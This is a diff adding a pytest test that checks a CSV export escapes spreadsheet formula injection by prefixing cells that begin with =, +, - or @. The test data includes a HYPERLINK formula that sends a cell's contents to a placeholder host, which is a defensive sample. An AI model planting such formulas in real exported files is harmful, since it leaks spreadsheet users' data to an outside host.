@@ -107,3 +107,17 @@ def test_review_shows_attached_images(tmp_path: Path) -> None:
     store.append_interaction(model="gemini", prompt="no picture", response="ok")
     table = review_table(store)
     assert attached_images(table) == [("what is in the picture?", "a" * 64 + ".png")]
+
+
+def test_csv_downloads_open_as_text_in_a_spreadsheet() -> None:
+    import pandas as pd
+
+    from dmac_core.views.csv_export import csv_bytes
+
+    frame = pd.DataFrame({"prompt": ["=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2", "@SUM(A1)", "plain", None],
+                          "rating": [5, 4, 3, 2, 1, 5]})
+    rows = csv_bytes(frame).decode("utf-8").splitlines()
+    assert rows[0] == "prompt,rating"
+    assert rows[1].startswith('"\'=HYPERLINK(') and rows[2] == "'+1+1,4" and rows[3] == "'-2,3"
+    assert rows[4] == "'@SUM(A1),2" and rows[5] == "plain,1" and rows[6] == ",5"
+    assert frame["prompt"][0].startswith("=")  # the page's own table is left as it was
